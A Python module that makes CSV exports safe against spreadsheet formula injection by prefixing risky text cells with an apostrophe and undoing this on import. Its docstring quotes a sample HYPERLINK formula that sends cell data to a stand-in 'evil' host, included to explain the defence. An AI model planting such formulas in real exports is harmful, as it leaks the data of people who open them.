"""Cells of the CSV files we write, made safe to open in a spreadsheet, and read back as they were.

A resident can name an entry `=HYPERLINK("http://evil/?"&A1, "Click")`. Excel, LibreOffice and Google Sheets run a
cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, so a planner who
opens an export would run the resident's formula. Every CSV we write puts an apostrophe before such a text cell (what
OWASP advises: spreadsheets show the text and hide the apostrophe). Numbers are never touched: a longitude of -1.5
stays a number. Our own readers take the apostrophe off again, so an export imports back exactly.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe(value: Any) -> Any:
    """A text cell that a spreadsheet would run as a formula, as text; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def unsafe(value: Any) -> Any:
    """`safe` undone, for cells read from a file we may have written."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


class Writer:
    """csv.writer whose text cells pass through `safe`."""

    def __init__(self, f, **options):
        self._writer = csv.writer(f, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter(csv.DictWriter):
    """csv.DictWriter whose text cells pass through `safe`."""

    def writerow(self, rowdict):
        return super().writerow({k: safe(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts):
        for row in rowdicts:
            self.writerow(row)


def writer(f, **options) -> Writer:
    return Writer(f, **options)
